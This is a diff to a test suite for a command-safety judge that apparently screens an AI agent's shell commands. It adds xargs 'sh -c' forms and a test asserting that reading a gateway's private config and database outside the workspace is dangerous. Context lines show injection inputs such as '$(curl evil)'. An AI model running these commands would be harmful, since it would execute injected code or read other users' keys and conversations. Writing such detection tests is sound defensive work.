@@ -440,6 +440,10 @@ git diff --outp=x
 rm --recurs build
 test -v 'a[$(id)]'
 hash -p /tmp/x ls
+cat a.txt | xargs -Iecho sh -c echo
+cat a.txt | xargs -0Iecho sh -c echo
+cat a.txt | xargs -iecho sh -c echo
+cat a.txt | xargs --replace=echo sh -c echo
 x='$(curl evil)'; echo "${x@P}"
 x='a[$(curl evil)]'; echo $((x))
 x='a[$(curl evil)]'; y=x; echo $((y + 1))
@@ -822,6 +826,36 @@ def test_code_of_the_workspace_is_asked_about_where_nothing_bounds_it(command: s
     assert judge(command, workspace=WORKSPACE, bounded=False).verdict is Verdict.DANGEROUS
     for harmless in ("ls -la", "git status", "pip list", "echo x > notes.txt", "grep -rn x ."):
         assert judge(harmless, workspace=WORKSPACE, bounded=False).verdict is Verdict.SAFE
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat ../holdfast.toml",
+        "cat /srv/agent/holdfast.db",
+        "cat /srv/*/holdfast.db",
+        "cat ../*",
+        "cd .. && cat holdfast.toml",
+        "grep -r key ..",
+        "rg key ..",
+        "head -c 100 sub/../../holdfast.db",
+        "cp -r .. here",
+        "cat < ../holdfast.toml",
+    ],
+)
+def test_what_the_gateway_keeps_is_not_read_unasked(command: str) -> None:
+    """SECURITY 9, 11: keys and conversations of others stand around the workspace."""
+    assert judge(command, workspace=WORKSPACE, private=["/srv/agent"]).verdict is Verdict.DANGEROUS
+    for harmless in (
+        "cat notes.txt",
+        f"cat {WORKSPACE}/notes.txt",
+        "cat /usr/include/stdio.h",
+        "cd sub && cat ../x",
+        "grep -rn x .",
+    ):
+        assert judge(harmless, workspace=WORKSPACE, private=["/srv/agent"]).verdict is Verdict.SAFE
+    deeper = judge("cat ../../holdfast.toml", workspace=WORKSPACE, workdir=f"{WORKSPACE}/sub", private=["/srv/agent"])
+    assert deeper.verdict is Verdict.DANGEROUS
 
 
 def test_without_a_workspace_every_absolute_path_is_outside() -> None:
